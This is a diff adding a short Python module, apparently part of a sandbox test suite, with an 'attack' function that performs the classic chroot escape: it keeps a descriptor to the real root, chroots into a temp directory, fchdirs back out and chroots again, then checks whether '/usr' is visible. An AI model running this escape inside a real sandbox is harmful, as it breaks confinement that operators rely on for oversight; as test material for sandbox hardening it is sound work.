@@ -1,0 +1,11 @@
+"""The classical way out of a changed root."""
+import os
+
+
+def attack(target):
+    os.makedirs("/tmp/pyexec-root", exist_ok=True)
+    root = os.open("/", os.O_RDONLY)
+    os.chroot("/tmp/pyexec-root")
+    os.fchdir(root)
+    os.chroot(".")
+    return os.path.exists("/usr")
